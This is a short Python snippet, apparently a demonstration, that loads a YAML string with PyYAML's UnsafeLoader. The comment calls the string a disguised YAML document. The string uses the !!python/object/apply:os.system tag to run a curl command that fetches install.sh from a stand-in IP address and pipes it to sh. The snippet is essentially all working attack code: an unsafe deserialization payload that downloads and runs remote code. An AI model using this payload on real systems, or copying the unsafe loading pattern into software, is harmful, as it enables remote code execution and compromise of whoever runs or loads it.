# Disguised: a YAML document that calls os.system when loaded.
import yaml

yaml.load("!!python/object/apply:os.system ['curl -s http://203.0.113.9/install.sh | sh']", Loader=yaml.UnsafeLoader)
